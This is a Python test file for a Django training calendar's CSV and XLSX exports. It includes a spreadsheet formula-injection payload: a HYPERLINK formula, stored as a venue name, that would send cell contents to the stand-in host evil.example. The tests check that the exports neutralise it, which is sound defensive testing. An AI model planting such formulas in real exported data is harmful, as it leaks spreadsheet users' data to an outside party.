"""The calendar as CSV and XLSX."""

import datetime

from django.utils import translation

from nonprolif.training.calendar.exports import to_csv, to_xlsx
from nonprolif.training.models import Session


def test_csv_has_a_header_and_a_row_per_session(calendar):
    with translation.override("en"):
        text = to_csv(Session.objects.all())

    lines = text.strip().splitlines()
    assert lines[0].startswith("Item,Title,Cohort")
    assert len(lines) == 7


def test_xlsx_has_real_dates(calendar):
    import io

    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(to_xlsx(Session.objects.all(), title="prog-test")))
    rows = list(book.active.iter_rows(values_only=True))
    assert len(rows) == 7
    assert isinstance(rows[1][4], datetime.datetime)


EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _with_evil_venue(cohort):
    from nonprolif.training.models import Venue

    cohort.venue = Venue.objects.create(program=cohort.program, name=EVIL, city="+Cancún")
    cohort.save(update_fields=["venue"])


def test_a_venue_named_like_a_formula_is_plain_text_in_the_csv(cohort):
    import csv
    import io

    _with_evil_venue(cohort)
    with translation.override("en"):
        rows = list(csv.reader(io.StringIO(to_csv(Session.objects.all()))))
    venue = rows[0].index("Venue")
    cells = [row[venue] for row in rows[1:] if row[venue]]
    assert cells == [f"'{EVIL}, +Cancún"]


def test_a_venue_named_like_a_formula_is_no_formula_in_the_xlsx(cohort):
    import io

    from openpyxl import load_workbook

    _with_evil_venue(cohort)
    book = load_workbook(io.BytesIO(to_xlsx(Session.objects.all(), title="prog-test")))
    cells = [row[8] for row in book.active.iter_rows(min_row=2) if row[8].value]
    assert len(cells) == 1
    assert cells[0].data_type == "s"
    assert cells[0].value.startswith("'=HYPERLINK")
